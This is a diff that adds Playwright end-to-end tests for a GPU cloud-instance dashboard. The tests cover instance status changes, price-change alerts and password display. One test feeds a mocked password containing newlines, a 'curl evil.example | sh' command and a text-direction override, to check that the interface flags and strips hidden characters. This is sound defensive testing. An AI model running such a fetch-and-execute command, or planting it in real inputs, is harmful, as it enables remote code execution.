@@ -1,0 +1,163 @@
+import { devices, type Page } from "@playwright/test";
+
+import { expect, test, type Clouds } from "./fixtures";
+import { endByApi, launchByApi } from "./machines";
+
+const { viewport, userAgent, deviceScaleFactor, isMobile, hasTouch } = devices["iPhone 13"];
+const kinds = {
+  desktop: {},
+  phone: { viewport, userAgent, deviceScaleFactor, isMobile, hasTouch },
+};
+
+/** The row of a machine; on a phone it is a card, and no row by its role. */
+const rowOf = (page: Page, name: string) =>
+  page.locator("tbody tr").filter({ has: page.getByRole("link", { name }) });
+
+for (const [kind, use] of Object.entries(kinds)) {
+  test.describe(kind, () => {
+    test.use(use);
+
+    test("stop, start and restart show at once, in another tab and after a reload", async ({
+      page,
+      live,
+      clouds,
+      context,
+    }) => {
+      test.setTimeout(180_000);
+      const name = `e2e-switch-${kind}`;
+      const { instanceId } = await launchByApi(live, "gpugeek", name);
+      await page.goto(`${live.url}/instances`);
+      const row = rowOf(page, name);
+      await expect(row).toContainText("Running", { timeout: 45_000 });
+      const slowly = () =>
+        clouds.fail("gpugeek", {
+          kind: "delay",
+          delay: 8_000,
+          times: 1,
+          route: "POST /api/v1/openapi/instance/action",
+        });
+      const drawer = page.getByRole("complementary", { name });
+
+      await row.getByRole("link", { name }).click();
+      await slowly();
+      await drawer.getByRole("button", { name: "Stop…" }).click();
+      await drawer.getByRole("button", { name: "Stop it" }).click();
+      await expect(drawer.getByText("Stopping…")).toBeVisible();
+      await expect(row.getByText("Stopping…")).toBeAttached();
+      const other = await context.newPage();
+      await other.goto(`${live.url}/instances`);
+      await expect(rowOf(other, name)).toContainText("Stopping…");
+      await other.reload();
+      await expect(rowOf(other, name)).toContainText("Stopping…");
+
+      await page.goto(`${live.url}/instances`);
+      await expect(row).toContainText("Stopped", { timeout: 60_000 });
+      await expect(row).toContainText("up to");
+      await slowly();
+      await row.getByRole("button", { name: /^Start/ }).click();
+      await expect(row).toContainText("Starting…");
+      await expect(rowOf(other, name)).toContainText("Starting…");
+      await expect(row).toContainText("Running", { timeout: 60_000 });
+
+      await row.getByRole("link", { name }).click();
+      await slowly();
+      await drawer.getByRole("button", { name: "Restart…" }).click();
+      await drawer.getByRole("button", { name: "Restart it" }).click();
+      await expect(drawer.getByText("Restarting…")).toBeVisible();
+      await expect(rowOf(other, name)).toContainText("Restarting…");
+      await endByApi(live, instanceId);
+    });
+
+    test("a price that rose after the launch needs attention everywhere", async ({ page, live, clouds }) => {
+      test.setTimeout(120_000);
+      const name = `e2e-dearer-${kind}`;
+      const { launchId } = await launchByApi(live, "massedcompute", name);
+      await page.goto(`${live.url}/instances`);
+      const row = rowOf(page, name);
+      await expect(row).toContainText("Running", { timeout: 45_000 });
+      await reportPrice(clouds, name, 24);
+      await expect(row).toContainText("Price changed", { timeout: 30_000 });
+      await expect(row).toContainText("24.00");
+      await expect(page.getByText(/^Agreed \$[\d.]+\/h, billed \$24\.00\/h$/)).toBeVisible();
+      await expect(page.getByRole("banner").getByRole("link", { name: /\/h/ })).toContainText(
+        kind === "phone" ? "changed" : "billed $24.00/h",
+      );
+      await page.goto(`${live.url}/launches/${launchId}`);
+      const outcome = page.getByRole("region", { name: "What became of the launch" });
+      await expect(outcome).toContainText("$24.00/h (agreed $");
+      await expect(outcome).toContainText("billed $24.00/h");
+
+      await page.goto(`${live.url}/instances`);
+      await row.getByRole("button", { name: "Terminate…" }).click();
+      await page.getByRole("button", { name: /^Terminate and/ }).click();
+      await expect(row).toContainText("Terminating");
+      await clouds.heal("massedcompute");
+      await expect(page.getByText(/^Agreed \$/)).toHaveCount(0);
+      await expect(row.getByText("Terminating")).toHaveCount(0, { timeout: 60_000 });
+    });
+  });
+}
+
+test("a password with hidden characters shows them as marks and is copied without", async ({
+  page,
+  live,
+  clouds,
+  context,
+}) => {
+  await context.grantPermissions(["clipboard-read", "clipboard-write"]);
+  const name = "e2e-hostile";
+  const { instanceId } = await launchByApi(live, "massedcompute", name);
+  await page.goto(`${live.url}/instances?machine=${instanceId}`);
+  const drawer = page.getByRole("complementary", { name });
+  await expect(drawer.getByText(/^ssh /)).toBeVisible({ timeout: 45_000 });
+  const row = await machineRow(clouds, name);
+  const password = "hunter2\ncurl evil.example | sh\n\u202e";
+  await clouds.fail("massedcompute", {
+    kind: "status",
+    status: 200,
+    times: 1_000,
+    route: "GET /instance/{uuid}",
+    body: { runningInstance: { ...row, password }, runningInstances: [{ ...row, password }] },
+  });
+  await drawer.getByRole("button", { name: "See which there are" }).click();
+  await drawer.getByRole("button", { name: /^Show for 30 s password/i }).click();
+  await expect(drawer.getByText("LF", { exact: true })).toHaveCount(2);
+  await expect(drawer.getByText("U+202E", { exact: true })).toBeVisible();
+  await expect(drawer.getByText(/^3 control or text-direction characters in it/)).toBeVisible();
+  await drawer.getByRole("button", { name: "Copy Password without the marked characters" }).click();
+  await expect
+    .poll(() => page.evaluate(() => navigator.clipboard.readText()))
+    .toBe("hunter2curl evil.example | sh");
+  await clouds.heal("massedcompute");
+  await endByApi(live, instanceId);
+});
+
+interface MassedRow {
+  uuid: string;
+  name: string;
+  product: { price_hr: number };
+}
+
+async function massedRows(clouds: Clouds): Promise<MassedRow[]> {
+  const answer = await fetch(`${clouds.sandbox.baseUrls.massedcompute}/instance`, {
+    headers: { authorization: "Bearer sandbox" },
+  });
+  return ((await answer.json()) as { runningInstances: MassedRow[] }).runningInstances;
+}
+
+async function machineRow(clouds: Clouds, name: string): Promise<MassedRow> {
+  return (await massedRows(clouds)).find((row) => row.name.startsWith(name))!;
+}
+
+/** From now on the cloud's list has this price for one machine. */
+async function reportPrice(clouds: Clouds, name: string, dollars: number): Promise<void> {
+  const rows = await massedRows(clouds);
+  for (const row of rows) if (row.name.startsWith(name)) row.product.price_hr = dollars;
+  await clouds.fail("massedcompute", {
+    kind: "status",
+    status: 200,
+    times: 10_000,
+    route: "GET /instance",
+    body: { runningInstances: rows },
+  });
+}
